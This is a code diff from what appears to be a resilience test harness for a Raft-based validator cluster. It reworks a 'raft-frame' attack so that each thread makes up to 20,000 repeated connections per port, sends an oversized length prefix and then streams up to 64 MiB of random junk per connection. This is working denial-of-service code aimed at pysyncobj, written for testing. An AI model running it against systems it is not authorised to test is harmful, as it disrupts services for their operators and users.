@@ -27,6 +27,7 @@ from __future__ import annotations
 
 import os
 import socket
+import struct
 import tempfile
 import threading
 import time
@@ -45,7 +46,9 @@ PROBE_PERIOD_S = 0.02
 #: Seconds between two samples of the leader's RSS.
 RSS_SAMPLE_S = 0.05
 RPC_TIMEOUT_S = 30.0
-#: Junk the raft-frame attack sends per socket at most (bytes).
+#: Connections the raft-frame attack opens per port at most (it reconnects when closed).
+RAFT_CONNECTIONS_MAX = 20_000
+#: Junk the raft-frame attack sends per connection at most (bytes).
 RAFT_JUNK_BYTES_MAX = 64 << 20
 CLK_TCK = os.sysconf("SC_CLK_TCK")
 
@@ -157,34 +160,38 @@ def _submit_flood(ctx: dict, duration_s: float) -> dict:
 
 
 def _raft_frame(ctx: dict, duration_s: float) -> dict:
+    """Each socket reconnects as soon as the validator closes it, for ``duration_s``."""
     end = time.monotonic() + duration_s
-    sent: dict[str, int] = {}
-    closed_after_s: dict[str, float | None] = {}
+    stats: dict[str, dict] = {}
 
     def attack(address: str) -> None:
         host, port = address.rsplit(":", 1)
-        start = time.monotonic()
-        n = 0
-        closed = None
-        try:
-            with socket.create_connection((host, int(port)), timeout=5) as s:
-                s.settimeout(5)
-                s.sendall(b"\x7f\xff\xff\xff")
-                junk = os.urandom(1 << 20)
-                while n < RAFT_JUNK_BYTES_MAX and time.monotonic() < end:
-                    s.sendall(junk)
-                    n += len(junk)
-        except OSError:
-            closed = round(time.monotonic() - start, 3)
-        sent[address] = n
-        closed_after_s[address] = closed
+        sent = connections = 0
+        slowest_close = 0.0
+        junk = os.urandom(1 << 20)
+        while time.monotonic() < end and connections < RAFT_CONNECTIONS_MAX:
+            start = time.monotonic()
+            connections += 1
+            try:
+                with socket.create_connection((host, int(port)), timeout=5) as s:
+                    s.settimeout(5)
+                    s.sendall(struct.pack("i", 0x7FFFFFFF))  # pysyncobj's native signed prefix
+                    n = 0
+                    while n < RAFT_JUNK_BYTES_MAX and time.monotonic() < end:
+                        s.sendall(junk)
+                        n += len(junk)
+                        sent += len(junk)
+            except OSError:
+                slowest_close = max(slowest_close, time.monotonic() - start)
+        stats[address] = {"connections": connections, "junk_bytes_sent": sent,
+                          "slowest_close_s": round(slowest_close, 3)}
 
     threads = [threading.Thread(target=attack, args=(a,)) for a in ctx["raft_addresses"]]
     for t in threads:
         t.start()
     for t in threads:
         t.join(duration_s + 30)
-    return {"junk_bytes_sent": sent, "closed_by_validator_after_s": closed_after_s}
+    return {"per_port": stats}
 
 
 def _query_scan(ctx: dict, duration_s: float) -> dict:
